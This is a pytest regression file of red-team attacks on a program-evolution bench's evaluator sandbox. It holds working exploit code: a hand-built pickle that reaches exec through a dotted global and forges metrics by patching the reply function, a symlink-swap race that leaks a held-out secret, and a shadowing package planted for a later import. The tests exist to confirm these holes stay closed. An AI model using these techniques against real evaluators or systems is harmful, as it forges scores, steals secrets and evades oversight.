"""Red-team attacks on program kits' evaluator jail (evaluator.py run by harness.run_evaluator),
each one worked before its fix: a pickle naming a dotted global, a run_program path swapped for a
link to evoteam's secret between the harness's check and its read, a package written beside the
program. Each test asserts what the bench guarantees. Kits and programs are written here, as in
test_evaluator_jail.py."""

from __future__ import annotations

import platform
import sys

import pytest

from tests.bench.test_evaluator_jail import HONEST, PICKLE_EVALUATOR, _evaluate, _kit, kits  # noqa: F401,F811 - kits: a fixture

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="the bench's sandbox is Linux-only")

HONEST_SCORE = -(7 + 44 + 20) / 3  # the kits of test_evaluator_jail.py: targets 37, 74, 10; HONEST guesses 30
FORGED = 12345.0


def _honest_or_caught(e) -> None:
    """What the bench must guarantee: no PASSED, unflagged score better than the honest one."""
    forged = e.status == "PASSED" and not e.flagged and (e.score or 0.0) > HONEST_SCORE + 1e-9
    assert not forged, f"forged and ranks: status={e.status} score={e.score} flagged={e.flagged} flags={e.flags}"


# ------------------------------------------------------------------ 1. pickle: dotted global names
#
# watch_program's pickle.find_class check looked at the module's first component and, for
# "builtins", at the exact name (now: an allow-list of data types, whole names). Protocol 4's STACK_GLOBAL resolves *dotted* names with getattr,
# so ("builtins", "print.__self__.exec") is builtins.exec, and e.g. ("glob", "os.system") is
# os.system: neither was reported. exec() of a string compiles code that is not the program's
# source, so the compile/exec events do not fire either. The code runs inside the evaluator and
# here replaces protocol.write_frame, so the evaluator's reply to the harness carries any metrics.

PAYLOAD = r'''
import evoteam.servers.bench.measurement.protocol as _P
def _forged(fd, header, arrays=None, _orig=_P.write_frame):
    ev = header.get("evaluation") if isinstance(header, dict) else None
    if isinstance(ev, dict):
        ev["metrics"] = {"combined_score": FORGED, "mean_error": 0.0}
        ev["failure"] = None
        ev["artifacts"] = {}
        ev["stages"] = [{"stage": "evaluate", "fitness": FORGED, "wall_s": 0.01}]
    return _orig(fd, header, arrays)
_P.write_frame = _forged
'''.replace("FORGED", repr(FORGED))

DOTTED_PICKLE_FORGER = '''
# EVOLVE-BLOCK-START
import os
import struct
import sys

PAYLOAD = {payload!r}


def _u(text):
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


# PROTO 4; "builtins" "print.__self__.exec" STACK_GLOBAL; (PAYLOAD,) REDUCE; then an honest-looking list
BLOB = (b"\\x80\\x04" + _u("builtins") + _u("print.__self__.exec") + b"\\x93" + _u(PAYLOAD) + b"\\x85R0"
        + b"](" + b"G" + struct.pack(">d", 37.0) + b"G" + struct.pack(">d", 74.0)
        + b"G" + struct.pack(">d", 10.0) + b"e.")

if len(sys.argv) > 2:
    with open(sys.argv[2], "wb") as fh:
        fh.write(BLOB)
    os._exit(0)


def solve(instance):
    return 30.0
# EVOLVE-BLOCK-END
'''.format(payload=PAYLOAD)


async def test_dotted_pickle_global_runs_code_in_the_evaluator_unflagged(kits):
    settings, project = kits
    _kit(settings.kits_dirs[0], "guess_by_pickle", PICKLE_EVALUATOR)
    e = await _evaluate(settings, "guess_by_pickle", project, DOTTED_PICKLE_FORGER)
    _honest_or_caught(e)


# ------------------------------------------------------------------ 2. run_program: check-then-copy race
#
# _serve_program_requests (harness, root, unconfined) checked os.path.realpath(path) was inside the
# evaluator's working folder, then _program_call copied the *path* with shutil.copyfile, which
# followed a symlink put there in between (now the evaluator sends the source it read itself). Code running in the evaluator (here: a program the
# evaluator imports, as OpenEvolve's in-process examples do; finding 1 gives the same unflagged)
# swaps a regular file and a symlink to evoteam's held-out secret (renameat2 RENAME_EXCHANGE)
# while asking for run_program: the harness copies the secret into a program worker, whose
# import of it fails with the secret in the traceback, which comes back as the ProgramFailure
# message. Flagging the evaluation does not matter: the secret is in its stored message.

RACE_READER = '''
# EVOLVE-BLOCK-START
import ctypes
import os
import re
import threading
import time

from evoteam.servers.bench.measurement import program

SECRET = {secret!r}
libc = ctypes.CDLL(None, use_errno=True)
here = os.path.dirname(os.path.realpath(__file__))
real, link = os.path.join(here, "a.py"), os.path.join(here, "b.py")
with open(real, "w") as fh:
    fh.write("def run():\\n    return 1\\n")
libc.symlink(SECRET.encode(), link.encode())  # below the audit hook; Landlock does not look at targets
go = threading.Event()
state = {{"swapped": False, "delay": 0.0}}


def _exchange():
    libc.syscall(316, -100, real.encode(), -100, link.encode(), 2)  # renameat2(..., RENAME_EXCHANGE)
    state["swapped"] = not state["swapped"]


def _swapper():
    # one swap (file -> symlink) per request, a little after it is sent: the harness's realpath
    # never sees the link turn back into a file (which would make its readlink fail)
    while True:
        go.wait()
        go.clear()
        end = time.perf_counter() + state["delay"]
        while time.perf_counter() < end:
            pass
        _exchange()


threading.Thread(target=_swapper, daemon=True).start()
LEAK = None
deadline = time.time() + 8
attempt = 0
while LEAK is None and time.time() < deadline:
    attempt += 1
    state["delay"] = (attempt % 40) * 0.0001
    go.set()
    try:
        program.run_program(real, "run", timeout_s=10)
    except Exception as exc:  # noqa: BLE001
        found = re.search(r"[0-9a-f]{{64}}", str(exc))
        LEAK = found.group(0) if found else None
    time.sleep(0.01)
    if state["swapped"]:
        _exchange()
if LEAK:
    raise RuntimeError("LEAKED " + LEAK)


def solve(instance):
    return 30.0
# EVOLVE-BLOCK-END
'''


@pytest.mark.skipif(platform.machine() != "x86_64", reason="the attack calls renameat2 by its x86_64 number")
async def test_run_program_race_copies_a_file_outside_the_working_folder(kits):
    import json

    from evoteam.servers.bench.formats.kits import heldout_secret, state_dir

    settings, project = kits  # its guess_in_process kit imports the program in its own process
    secret = heldout_secret(settings).hex()
    program = RACE_READER.format(secret=str(state_dir(settings) / "heldout.secret"))
    e = await _evaluate(settings, "guess_in_process", project, program)
    assert secret not in json.dumps(e.model_dump(mode="json")), f"held-out secret leaked: {e.message[:300]}"


# ------------------------------------------------------------------ 3. a package written beside the program
#
# watch_program recognised the program by its file (realpath) or its source. A cascade whose first
# stage runs the program in `python` of its own (a quick "does it run" check) let the program
# write into its folder; when a later stage imported the program by name after putting its folder
# on sys.path, the import system preferred a package directory of that name over the module file,
# so `<name>/__init__.py` -- other code, another file -- ran in the evaluator unreported. Now the
# folder is read-only and code run from it counts as the program. An honest program is flagged by
# this kit (stage 2 imports it); the forger must not rank unflagged.

CASCADE_EVALUATOR = '''
import importlib
import os
import subprocess
import sys

TARGETS = {1: 37.0, 2: 74.0, 3: 10.0}


def evaluate_stage1(program_path):
    done = subprocess.run([sys.executable, program_path], capture_output=True, timeout=60)
    return {"combined_score": 0.0 if done.returncode == 0 else -1e9}


def evaluate_stage2(program_path):
    sys.path.insert(0, os.path.dirname(program_path))
    module = importlib.import_module(os.path.splitext(os.path.basename(program_path))[0])
    errors = [abs(float(module.solve(s)) - TARGETS[s]) for s in TARGETS]
    return {"combined_score": -sum(errors) / len(errors), "mean_error": sum(errors) / len(errors)}


def evaluate(program_path):
    return evaluate_stage2(program_path)
'''

SHADOWING_PACKAGE = '''
# EVOLVE-BLOCK-START
import os

PAYLOAD = {payload!r}

if __name__ == "__main__":  # stage 1, in a process of its own: leave a package of our name behind
    here = os.path.realpath(__file__)
    package = os.path.join(os.path.dirname(here), os.path.splitext(os.path.basename(here))[0])
    os.makedirs(package, exist_ok=True)
    with open(os.path.join(package, "__init__.py"), "w") as fh:
        fh.write(PAYLOAD + "\\ndef solve(instance):\\n    return 30.0\\n")


def solve(instance):
    return 30.0
# EVOLVE-BLOCK-END
'''.format(payload=PAYLOAD)


async def test_package_beside_the_program_runs_in_the_evaluator_unflagged(kits):
    settings, project = kits
    folder = _kit(settings.kits_dirs[0], "guess_cascade", CASCADE_EVALUATOR)
    (folder / "config.yaml").write_text(
        "language: python\nevaluator:\n  timeout: 60\n  cascade_evaluation: true\n  cascade_thresholds: [-1000.0]\n"
        "evoteam:\n  name: guess_cascade\n  objective: combined_score\n  direction: maximize\n")
    honest = await _evaluate(settings, "guess_cascade", project, HONEST)
    assert honest.flagged, (honest.status, honest.flags)  # stage 2 imports the program: reported
    e = await _evaluate(settings, "guess_cascade", project, SHADOWING_PACKAGE)
    _honest_or_caught(e)
